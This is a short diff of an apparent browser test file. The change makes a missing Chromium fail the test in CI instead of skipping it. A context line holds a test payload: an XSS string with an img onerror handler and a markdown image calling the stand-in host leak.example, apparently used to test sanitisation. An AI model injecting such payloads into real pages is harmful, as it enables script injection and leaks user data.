@@ -23,7 +23,10 @@ EVIL = "<img src=x onerror=\"document.title='owned'\"> ![x](http://leak.example/
 
 pytestmark = [
     pytest.mark.browser,
-    pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: install the package chromium, or run python -m tests as root"),
+    pytest.mark.skipif(
+        CHROMIUM is None and not os.environ.get("CI"),  # where nobody looks, a browser that is missing is a failure
+        reason="needs Chromium: install the package chromium, or run python -m tests as root",
+    ),
 ]
 
 
